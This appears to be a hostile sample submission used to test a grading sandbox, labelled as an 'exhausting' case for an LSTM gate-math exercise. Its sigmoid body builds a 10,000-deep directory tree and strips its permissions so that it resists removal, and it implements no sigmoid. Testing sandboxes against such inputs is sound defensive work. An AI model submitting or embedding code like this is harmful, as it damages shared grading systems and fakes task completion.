# lesson: 02-gate-math
# class: exhausting
# outcome: failed | raised
# score: 0
# must not: leave a tree that nobody can remove


def sigmoid(z):
    # ********** Begin sigmoid ********** #
    import os

    try:
        for _ in range(10_000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    os.chmod(".", 0)
    return None
    # ********** End sigmoid ********** #


# Untouched:
# ********** Begin forget_gate ********** #
# ********** End forget_gate ********** #
# ********** Begin input_gate ********** #
# ********** End input_gate ********** #
# ********** Begin candidate ********** #
# ********** End candidate ********** #
# ********** Begin cell_state ********** #
# ********** End cell_state ********** #
# ********** Begin output_gate ********** #
# ********** End output_gate ********** #
# ********** Begin hidden_state ********** #
# ********** End hidden_state ********** #
# ********** Begin lstm_step ********** #
# ********** End lstm_step ********** #
